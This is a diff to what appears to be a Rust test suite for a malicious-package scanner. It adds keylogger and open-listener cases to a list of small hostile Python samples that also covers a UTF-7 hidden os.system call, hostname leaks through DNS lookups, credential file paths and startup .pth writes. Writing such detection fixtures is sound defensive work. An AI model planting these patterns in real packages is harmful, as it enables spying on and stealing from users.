@@ -607,6 +607,8 @@ fn python_positives() -> Vec<(&'static str, &'static str, Vec<u8>)> {
         ("python-source-encoding", "m.py", b"# coding: utf-7\nimport os\n#+AAo-os.system('echo hi')\n".to_vec()),
         ("python-credential-stealer", "m.py", stealer.to_vec()),
         ("python-host-fingerprint", "setup.py", b"import socket\nsocket.gethostbyname(socket.gethostname() + '.p.example.invalid')\n".to_vec()),
+        ("python-listener-at-load", "m.py", b"import logging.config\nlogging.config.listen(9999).start()\n".to_vec()),
+        ("python-input-capture", "m.py", b"from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n".to_vec()),
         ("python-credential-access", "m.py", b"import os\ndef f():\n    os.system('echo')\n    return '~/.kube/config'\n".to_vec()),
         ("python-startup-write", "setup.py", b"import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')\n".to_vec()),
         ("python-network-at-load", "m.py", b"import urllib.request\nurllib.request.urlopen('https://example.invalid')\n".to_vec()),
